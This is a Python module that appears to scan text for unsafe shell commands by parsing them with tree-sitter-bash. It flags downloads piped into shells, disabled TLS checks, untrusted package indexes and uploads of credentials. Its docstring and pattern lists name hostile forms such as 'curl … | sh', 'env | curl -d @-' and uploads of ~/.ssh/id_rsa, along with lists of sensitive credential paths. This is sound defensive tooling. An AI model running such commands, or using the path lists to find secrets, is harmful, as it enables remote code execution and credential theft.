"""Unsafe shell commands, found by parsing the shell with tree-sitter-bash rather than by regex alone.

``find_unsafe(text)`` returns :class:`ShellFinding` objects (rule, 0-based offset of the snippet, message,
confidence) for commands in fenced shell blocks, inline code and command-like lines of ``text``:

* ``pipe-to-shell``: network content reaching an interpreter through a pipe (``curl … | tee f | sh``,
  ``| sudo -E /bin/sh``), a file (``curl … -o /tmp/i.sh && sh /tmp/i.sh``, ``curl … >i; bash i``) or a
  substitution (``eval "$(curl …)"``, ``source <(curl …)``); decoded data fed to an interpreter
  (``echo … | base64 -d | sh``);
* ``tls-disabled``: ``git config http.sslVerify false``, ``GIT_SSL_NO_VERIFY``, ``npm … strict-ssl false``,
  ``NODE_TLS_REJECT_UNAUTHORIZED=0`` (``curl -k``, ``wget --no-check-certificate``: low confidence);
* ``untrusted-index``: ``pip install --trusted-host``, an index or registry over plain http, another
  https index (low confidence unless --trusted-host);
* ``credential-upload``: the environment or a credential file sent to a URL (``env | curl -d @-``,
  ``curl -F f=@~/.ssh/id_rsa``, ``curl -d "k=$API_TOKEN" http://host``).

The parser is tolerant: a snippet that does not parse still yields its commands. Nothing here runs code.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any

DOWNLOADERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "http",
        "https",
        "aria2c",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "lwp-download",
        "xh",
    }
)
INTERPRETERS = frozenset(
    {
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "ash",
        "csh",
        "tcsh",
        "python",
        "python2",
        "python3",
        "perl",
        "ruby",
        "node",
        "php",
        "pwsh",
        "powershell",
        "iex",
        "invoke-expression",
        "eval",
        "source",
        ".",
        "deno",
        "bun",
    }
)
_WRAPPERS = frozenset({"sudo", "doas", "env", "exec", "command", "nohup", "time", "xargs", "builtin", "nice"})
_DECODE_FLAGS = frozenset({"-d", "--decode", "-D", "-r", "-revert"})
_SENSITIVE = re.compile(
    r"\.ssh/|id_rsa|id_ed25519|id_ecdsa|\.aws/credentials|\.netrc|\.git-credentials|\.npmrc|"
    r"\.pypirc|\.docker/config|\.kube/config|/etc/shadow|\.env\b|credentials\.json"
)
_SECRET_VAR = re.compile(
    r"\$\{?[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY)[A-Z0-9_]*"
)
_SNIPPET_KEYS = (
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-",
    "base64",
    "xxd",
    "sslverify",
    "ssl_no_verify",
    "strict-ssl",
    "tls_reject",
    "trusted-host",
    "index-url",
    "registry",
    "no-check-certificate",
    "printenv",
    "openssl",
    "uudecode",
)
_KEYS = re.compile("|".join(re.escape(k) for k in _SNIPPET_KEYS))  # searched in lower-cased text
_SHELL_LANGS = frozenset(
    {
        "",
        "bash",
        "sh",
        "shell",
        "zsh",
        "console",
        "shell-session",
        "terminal",
        "text",
        "cmd",
        "powershell",
        "ps1",
        "pwsh",
        "dockerfile",
        "docker",
        "yaml",
        "yml",
        "makefile",
    }
)
_FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})[ \t]*([^\s`{]*)[^\n]*$", re.M)
_INLINE = re.compile(r"(?<!`)`([^`\n]{4,})`(?!`)")
_RUNS_FILE = re.compile(r"(?:^|[;&|]\s*)\s*(?:sudo\s+)?(?:ba|z|da)?sh\s+[\w./~-]|(?:^|\s)\./[\w.-]", re.M)
_CMD_START = re.compile(  # where a command starts in a line of prose ("then curl … | sh")
    r"(?:^|(?<=\s))\.\s+<\(|(?<![\w./-])(?:[A-Z_]+=\S*\s+)*(?:sudo\s+)?(?:curl|wget|git|pip3?|uv|npm|yarn|pnpm|echo|env|printenv|"
    r"export|eval|source|bash|sh|python3?|base64|cat|iwr|irm|fetch|http)\b"
)
_KNOWN_INDEXES = (
    "download.pytorch.org",
    "pypi.nvidia.com",
    "pypi.org",
    "files.pythonhosted.org",
    "data.pyg.org",
    "storage.googleapis.com/jax-releases",
    "registry.npmjs.org",
)


@dataclass(frozen=True, slots=True)
class ShellFinding:
    rule: str  # pipe-to-shell | tls-disabled | untrusted-index | credential-upload
    offset: int  # where the snippet starts in the text
    message: str
    confidence: str  # "high" | "low"
    hosts: tuple[str, ...] = ()  # hosts of the downloads (a low-confidence https install is only low
    # when the caller trusts every one of them)


def find_unsafe(text: str) -> list[ShellFinding]:
    """Unsafe commands anywhere in ``text``, at the offset of the command that does it."""
    low = text.lower()
    if not any(k in low for k in _SNIPPET_KEYS):
        return []
    found: list[ShellFinding] = []
    files: Files = {}  # files a download or a decoder wrote, across the text's snippets
    for offset, snippet in snippets(text):
        data = snippet.encode("utf-8", "replace")
        for rule, message, conf, node, used in analyse(snippet, files, offset):  # offset: the snippet's id
            at = offset + len(data[: node.start_byte].decode("utf-8", "ignore"))
            hosts = used or tuple(_host(u).lower() for u in re.findall(r"https?://[^\s\"'|;)]+", _text(node)))
            found.append(ShellFinding(rule, at, message, conf, hosts))
    return found


def snippets(text: str) -> Iterator[tuple[int, str]]:
    """(offset, command text) of shell blocks, inline code and command-like lines outside code."""
    parts: list[str] = []
    pos = 0
    for start, body_start, end, lang in _fences(text):
        body = text[body_start:end]
        if lang in _SHELL_LANGS and (_KEYS.search(body.lower()) or _RUNS_FILE.search(body)):
            yield body_start, body
        parts += [text[pos:start], re.sub(r"[^\n]", " ", text[start:end])]  # offsets and lines kept
        pos = end
    rest = "".join(parts) + text[pos:] if parts else text
    for m in _INLINE.finditer(rest):
        if _KEYS.search(m.group(1).lower()) or _RUNS_FILE.search(m.group(1)):
            yield m.start(1), m.group(1)
    rest = _INLINE.sub(lambda m: " " * len(m.group(0)), rest)
    done = -1
    for m in _KEYS.finditer(_lower_same(rest)):
        if m.start() < done:
            continue
        start = rest.rfind("\n", 0, m.start()) + 1
        end = rest.find("\n", m.start())
        done = end = len(rest) if end == -1 else end
        line = rest[start:end]
        if not line.lstrip().startswith("|"):
            cut = _CMD_START.search(line)
            if cut:
                yield start + cut.start(), line[cut.start() :]


def _lower_same(text: str) -> str:
    """``text.lower()`` with the same offsets (the rare characters whose lower case is longer are kept)."""
    low = text.lower()
    return low if len(low) == len(text) else "".join(c if len(c.lower()) != 1 else c.lower() for c in text)


def _fences(text: str) -> Iterator[tuple[int, int, int, str]]:
    """(start, body start, end, language) of each fenced block (an unclosed one runs to the end)."""
    opened: tuple[int, int, str, str] | None = None  # (start, body start, fence, language)
    for m in _FENCE_LINE.finditer(text):
        fence = m.group(1)
        if opened is None:
            opened = (m.start(), min(len(text), m.end() + 1), fence, m.group(2).lower())
        elif fence[0] == opened[2][0] and len(fence) >= len(opened[2]) and not m.group(2):
            yield opened[0], opened[1], m.start(), opened[3]
            opened = None
    if opened is not None:
        yield opened[0], opened[1], len(text), opened[3]


@cache
def _parser() -> Any:
    import tree_sitter_bash
    from tree_sitter import Language, Parser

    return Parser(Language(tree_sitter_bash.language()))


Files = dict[str, tuple[int, bool, tuple[str, ...]]]  # name -> (snippet, over plain http, download hosts)


def analyse(
    snippet: str, files: Files, snippet_id: int = 0
) -> Iterator[tuple[str, str, str, Any, tuple[str, ...]]]:
    """(rule, message, confidence, node, download hosts) for every unsafe construct of one snippet."""
    root = _parser().parse(snippet.encode("utf-8", "replace")).root_node
    for node in _walk(root):
        kind = node.type
        found: Iterator[tuple[str, str, str]] = iter(())
        if kind == "pipeline":
            found = _pipeline(node)
        elif kind == "declaration_command":  # export X=0
            found = _tls(["export", *_text(node).split()[1:]])
        elif kind == "command":
            ws = words(node)
            ran = _runs_file(ws, files, snippet_id)
            if ran is not None:
                yield (*ran, node, files[_ran_name(ws, files)][2])
            found = _command(node, ws, files, snippet_id)
        elif kind == "redirected_statement":
            _redirect_writes(node, files, snippet_id)
        for rule, message, conf in found:
            yield rule, message, conf, node, ()


def _walk(node: Any) -> Iterator[Any]:
    stack = [node]
    while stack:
        n = stack.pop()
        yield n
        stack.extend(reversed(n.children))


def _text(node: Any) -> str:
    return str(node.text.decode("utf-8", "replace"))


def words(command: Any) -> list[str]:
    """The command's name and arguments as text, quotes removed, wrappers (sudo, env …) dropped."""
    out: list[str] = []
    for child in command.children:
        if child.type in ("variable_assignment", "file_redirect", "herestring_redirect", "heredoc_redirect"):
            continue
        out.append(_text(child).strip("\"'"))
    while len(out) > 1 and _base(out[0]) in _WRAPPERS:
        out.pop(0)
        while out and (out[0].startswith("-") or "=" in out[0]):
            flag = out.pop(0)
            if flag in ("-u", "-g", "-n", "-I") and out:  # sudo -u user, xargs -n 1, xargs -I {}
                out.pop(0)
    return out


def _base(word: str) -> str:
    return word.rsplit("/", 1)[-1].lower()


def _is_downloader(ws: list[str]) -> bool:
    return bool(ws) and _base(ws[0]) in DOWNLOADERS


def _is_decoder(ws: list[str]) -> bool:
    if not ws:
        return False
    name = _base(ws[0])
    if name in ("base64", "base32", "xxd", "uudecode", "gunzip", "zcat"):
        return name in ("uudecode", "gunzip", "zcat") or any(w in _DECODE_FLAGS for w in ws[1:])
    return name == "openssl" and "-d" in ws and any("base64" in w or w == "-a" for w in ws)


def _is_interpreter(ws: list[str]) -> bool:
    if not ws:
        return False
    name = _base(ws[0])
    if name in INTERPRETERS:
        return not any(w in ("--version", "-V", "--help") for w in ws[1:])
    return False


def _pipeline(node: Any) -> Iterator[tuple[str, str, str]]:
    commands = [words(c) for c in node.children if c.type == "command"]
    for i, ws in enumerate(commands):
        if not _is_interpreter(ws) or (len(ws) > 1 and _reads_file_arg(ws)):
            continue
        before = commands[:i]
        if any(_is_downloader(w) for w in before):
            evasive = any(w and _base(w[0]) == "tee" for w in before) or bool(
                re.search(r"\bsudo\s+(?:-\w*E|--preserve-env)", _text(node))
            )
            conf = "low" if _official_install(before) and not evasive else "high"
            yield "pipe-to-shell", f"pipes a download into {_base(ws[0])}", conf
        elif any(_is_decoder(w) for w in before):
            yield "pipe-to-shell", f"feeds decoded data into {_base(ws[0])}", "high"
    yield from _uploads(commands)


def _reads_file_arg(ws: list[str]) -> bool:
    """``python script.py`` reads its own file, not the pipe (``-`` or ``-c``/``-s`` keeps reading it)."""
    args = [w for w in ws[1:] if not w.startswith("-")]
    return bool(args) and "-s" not in ws and "-" not in ws


def _official_install(commands: list[list[str]]) -> bool:
    """Every download is over https (an installer served by its vendor): shown, but low confidence."""
    urls = [w for ws in commands if _is_downloader(ws) for w in ws[1:] if "://" in w]
    return (
        bool(urls)
        and all(u.startswith("https://") for u in urls)
        and not any(w == "-E" or w == "--preserve-env" for ws in commands for w in ws)
    )


def _ran_name(ws: list[str], files: Files) -> str:
    if ws[0].startswith("./"):
        return _base(ws[0])
    return next(_base(w) for w in ws[1:] if not w.startswith("-") and _base(w) in files)


def _runs_file(ws: list[str], files: Files, snippet_id: int) -> tuple[str, str, str] | None:
    """An interpreter (or ``./x``) running a file a download wrote: high when chained in the same
    snippet or fetched over plain http, else low (a vendor's installer, downloaded then run)."""
    if not ws or not files:
        return None
    name = _base(ws[0])
    if ws[0].startswith("./") and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
        target = name
    elif name in INTERPRETERS and any(_base(w) in files for w in ws[1:] if not w.startswith("-")):
        target = _ran_name(ws, files)
    else:
        return None
    _, plain, _ = files[target]
    conf = "high" if plain else "low"  # over https: as a pipe from a vendor (see injection._shell_confidence)
    return "pipe-to-shell", f"{name} runs {target}, which was just downloaded", conf


def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
    if not ws:
        yield from _env_assignments(node)
        return
    name = _base(ws[0])
    yield from _env_assignments(node)
    if name in INTERPRETERS or name in ("sh", "bash"):
        for sub in _walk(node):
            if sub.type in ("command_substitution", "process_substitution") and sub is not node:
                inner = [words(c) for c in _walk(sub) if c.type == "command"]
                if any(_is_downloader(w) for w in inner):
                    yield "pipe-to-shell", f"{name} runs a download through a substitution", "high"
                elif any(_is_decoder(w) for w in inner):
                    yield "pipe-to-shell", f"{name} runs decoded data through a substitution", "high"
    if _is_downloader(ws):
        urls = [w for w in ws[1:] if "://" in w]
        entry = (
            snippet_id,
            any(u.startswith("http://") for u in urls),
            tuple(_host(u).lower() for u in urls),
        )
        files.update(dict.fromkeys(_download_targets(ws), entry))
        why = upload_args(ws)
        if why:
            urls = [w for w in ws[1:] if "://" in w]
            known = bool(urls) and all(u.startswith("https://") for u in urls)
            yield (
                "credential-upload",
                f"{why} to {', '.join(_host(u) for u in urls) or 'a URL'}",
                "low" if (known or not urls) and "variable" in why else "high",
            )
    yield from _tls(ws)
    yield from _index(ws)


def _download_targets(ws: list[str]) -> set[str]:
    out: set[str] = set()
    for i, w in enumerate(ws[:-1]):
        if w in ("-o", "-O", "--output", "--output-document"):
            out.add(_base(ws[i + 1]))
    if _base(ws[0]) == "wget" and not out:
        out.update(_base(w.split("?")[0]) for w in ws[1:] if "://" in w)
    if _base(ws[0]) == "curl" and ("-O" in ws or "--remote-name" in ws):
        out.update(_base(w.split("?")[0]) for w in ws[1:] if "://" in w)
    return {o for o in out if o and o != "-"}


def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
    if body is None:
        return
    cmds = [words(c) for c in _walk(body) if c.type == "command"]
    if any(_is_downloader(w) or _is_decoder(w) for w in cmds):
        urls = [w for ws in cmds for w in ws if "://" in w]
        entry = (
            snippet_id,
            not urls or any(u.startswith("http://") for u in urls),
            tuple(_host(u) for u in urls),
        )
        for child in node.children:
            if child.type == "file_redirect" and child.children:
                files[_base(_text(child.children[-1]).strip("\"'"))] = entry


def _env_assignments(node: Any) -> Iterator[tuple[str, str, str]]:
    for child in node.children:
        if child.type == "variable_assignment":
            text = _text(child).upper().replace('"', "").replace("'", "")
            if text in (
                "GIT_SSL_NO_VERIFY=1",
                "GIT_SSL_NO_VERIFY=TRUE",
                "NODE_TLS_REJECT_UNAUTHORIZED=0",
                "PYTHONHTTPSVERIFY=0",
                "CURL_CA_BUNDLE=",
                "REQUESTS_CA_BUNDLE=",
            ):
                yield "tls-disabled", f"turns TLS verification off ({text})", "high"


def _tls(ws: list[str]) -> Iterator[tuple[str, str, str]]:
    name = _base(ws[0])
    low = [w.lower() for w in ws]
    joined = " ".join(low)
    if name == "git" and ("http.sslverify=false" in joined or "http.sslverify false" in joined):
        yield "tls-disabled", "turns git's TLS verification off (http.sslVerify false)", "high"
    elif name in ("npm", "yarn", "pnpm") and "strict-ssl" in joined and "false" in joined:
        yield "tls-disabled", f"turns {name}'s TLS verification off (strict-ssl false)", "high"
    elif name == "export" and any(
        w.replace('"', "")
        in ("git_ssl_no_verify=1", "git_ssl_no_verify=true", "node_tls_reject_unauthorized=0")
        for w in low
    ):
        yield "tls-disabled", "turns TLS verification off for every later command", "high"
    elif name == "curl" and ("-k" in ws or "--insecure" in ws):
        yield "tls-disabled", "curl without TLS verification (-k)", "low"
    elif name == "wget" and "--no-check-certificate" in ws:
        yield "tls-disabled", "wget without TLS verification", "low"


def _index(ws: list[str]) -> Iterator[tuple[str, str, str]]:
    name = _base(ws[0])
    if name not in (
        "pip",
        "pip3",
        "uv",
        "python",
        "python3",
        "pipx",
        "npm",
        "yarn",
        "pnpm",
        "poetry",
        "conda",
    ):
        return
    for i, w in enumerate(ws):
        flag, _, value = w.partition("=")
        if not value and i + 1 < len(ws):
            value = ws[i + 1]
        if flag == "--trusted-host":
            yield "untrusted-index", f"installs while trusting host {value!r} without TLS", "high"
        elif flag in (
            "--index-url",
            "-i",
            "--extra-index-url",
            "--registry",
            "--index",
            "--default-index",
            "--find-links",
            "-f",
        ):
            if value.startswith("http://") and not value.startswith(("http://localhost", "http://127.0.0.1")):
                yield "untrusted-index", f"installs from a plain-http index ({_host(value)})", "high"
            elif value.startswith("https://") and not any(k in value for k in _KNOWN_INDEXES):
                yield "untrusted-index", f"installs from a non-default index ({_host(value)})", "low"


def _host(url: str) -> str:
    return url.split("://", 1)[-1].split("/", 1)[0]


def _uploads(commands: list[list[str]]) -> Iterator[tuple[str, str, str]]:
    """The environment or a credential file piped into a network command."""
    for i, ws in enumerate(commands):
        if not ws or not (_is_downloader(ws) or _base(ws[0]) in ("nc", "ncat", "netcat", "socat")):
            continue
        for src in commands[:i]:
            name = _base(src[0]) if src else ""
            if name in ("env", "printenv", "set", "export") or (
                name in ("cat", "base64", "tar", "gzip") and any(_SENSITIVE.search(w) for w in src[1:])
            ):
                yield "credential-upload", f"sends {name} output to the network ({_base(ws[0])})", "high"
                return


def upload_args(ws: list[str]) -> str | None:
    """Why a curl/wget command sends credentials (a credential file or a secret variable), or None."""
    data_flags = (
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "-F",
        "--form",
        "-T",
        "--upload-file",
        "--post-data",
        "--post-file",
        "--body-file",
    )
    for i, w in enumerate(ws[:-1]):
        flag = w.split("=", 1)[0]
        if flag in data_flags:
            value = ws[i + 1] if "=" not in w or flag == w else w.split("=", 1)[1]
            sends_file = flag in ("-T", "--upload-file", "--post-file", "--body-file") or "@" in value
            if sends_file and _SENSITIVE.search(value):
                return "uploads a credential file"
            if _SECRET_VAR.search(value):
                return "sends a secret variable"
    return None
